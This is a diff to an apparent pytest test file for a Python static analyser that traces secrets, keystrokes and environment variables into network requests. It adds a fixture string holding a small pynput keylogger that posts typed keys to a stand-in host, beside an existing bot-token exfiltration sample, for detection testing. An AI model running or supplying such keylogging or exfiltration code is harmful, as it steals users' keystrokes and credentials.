@@ -173,7 +173,16 @@ COMES_FROM: dict[str, tuple[str, Act, frozenset[Label]]] = {
             "requests.post('https://x.example.invalid', json=d)"
         ),
         Act.NETWORK_SEND,
-        frozenset([Label.SECRET]),
+        frozenset([Label.SECRET, Label.ENVIRONMENT_ALL]),
+    ),
+    "keys that are typed, joined": (
+        (
+            "import requests\nfrom pynput import keyboard\nT = []\ndef on_press(key):\n    T.append(str(key))\n"
+            "    requests.post('https://x.example.invalid', data=''.join(T))\n"
+            "keyboard.Listener(on_press=on_press).start()"
+        ),
+        Act.NETWORK_SEND,
+        frozenset([Label.KEYS]),
     ),
     "bot token": (
         "import requests\ndef setup(bot):\n    requests.post('https://x.example.invalid', data=bot.http.token)",
@@ -333,6 +342,21 @@ def test_origin_is_known_through_the_whole_chain(name: str, read_python: Read) -
     source, act, labels = COMES_FROM[name]
     facts = read_python(source).facts
     assert any(fact.act is act and labels <= fact.labels for fact in facts), facts
+
+
+@pytest.mark.parametrize("test", ["k.startswith('WEATHER_')", "'KEY' not in k", "not k.endswith('TOKEN')"])
+def test_choice_of_harmless_variables_is_not_the_environment(test: str, read_python: Read) -> None:
+    source = f"import os\nd = {{k: v for k, v in os.environ.items() if {test}}}\n"
+    facts = read_python(POST + source + "post(d)").facts
+    assert not any(Label.ENVIRONMENT_ALL in fact.labels for fact in facts)
+
+
+@pytest.mark.parametrize("client", ["httpx.Client", "httpx.AsyncClient"])
+def test_client_with_a_base_puts_it_before_every_path(client: str, read_python: Read) -> None:
+    source = f"import httpx\ndef run():\n    with {client}(base_url='https://x.example.invalid/v1/') as c:\n        "
+    facts = read_python(source + "c.get('/me')\n        c.get('https://y.example.invalid/z')").facts
+    found = {fact.detail for fact in facts if fact.act is Act.NETWORK_FETCH}
+    assert found == {"https://x.example.invalid/v1/me", "https://y.example.invalid/z"}
 
 
 def test_origin_names_the_line_where_it_enters(read_python: Read) -> None:
